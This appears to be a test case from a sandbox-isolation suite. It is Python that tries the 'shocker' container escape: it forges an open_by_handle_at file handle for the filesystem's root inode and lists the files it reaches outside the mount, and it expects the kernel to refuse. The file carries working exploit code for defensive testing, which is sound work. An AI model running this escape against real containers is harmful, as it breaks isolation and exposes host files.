# about: the "shocker" escape: name_to_handle_at on a bound directory, then open_by_handle_at with that handle and with a
#   forged handle for its filesystem's root inode (needs CAP_DAC_READ_SEARCH; reaches files outside every mount)
# expect: success|exception
# must-not: kernel-granted
import ctypes, os, platform, struct
NAME_TO_HANDLE, OPEN_BY_HANDLE = {'x86_64': (303, 304), 'aarch64': (264, 265)}[platform.machine()]
GRANT = '{{TOKEN}}'.upper()
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD = -100
out = []
# a real handle for a directory the program can see, then the root inode of that filesystem forged beside it
buf = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + b'\0' * 128)
mount_id = ctypes.c_int(0)
got = libc.syscall(ctypes.c_long(NAME_TO_HANDLE), ctypes.c_long(AT_FDCWD), b'/usr/lib', buf, ctypes.byref(mount_id), ctypes.c_long(0))
out.append('name_to_handle_at: ok' if got == 0 else f'name_to_handle_at: errno {ctypes.get_errno()}')
try:
    mount_fd = os.open('/usr/lib', os.O_RDONLY | os.O_DIRECTORY)
except OSError as e:
    mount_fd = -1
    out.append(f'open /usr/lib: {e.errno}')
handles = []
if got == 0:
    handles.append(('own', buf.raw))
# ext4/xfs FILEID_INO32_GEN: inode 2 (the filesystem root), generation 0 — the "shocker" forgery
handles.append(('forged-root', struct.pack('Ii', 8, 1) + struct.pack('II', 2, 0)))
for label, raw in handles:
    h = ctypes.create_string_buffer(raw)
    fd = libc.syscall(ctypes.c_long(OPEN_BY_HANDLE), ctypes.c_long(mount_fd), h, ctypes.c_long(os.O_RDONLY))
    if fd >= 0:
        names = sorted(os.listdir(fd))[:5] if label == 'forged-root' else []
        out.append(f'open_by_handle_at {label}: fd {GRANT} {names}')
        os.close(fd)
    else:
        out.append(f'open_by_handle_at {label}: errno {ctypes.get_errno()}')
return out
